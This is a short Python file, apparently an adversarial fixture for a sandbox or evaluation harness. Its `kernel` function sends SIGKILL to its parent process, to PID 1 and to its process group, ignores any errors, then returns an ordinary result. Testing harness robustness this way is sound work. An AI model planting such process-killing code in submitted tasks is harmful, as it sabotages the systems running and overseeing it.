"""Kills its parent and the first process of its namespace, then goes on."""

import os
import signal


def kernel(x):
    for pid in (os.getppid(), 1, -os.getpgrp() if os.getpgrp() != os.getpid() else 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 2 * x + 1
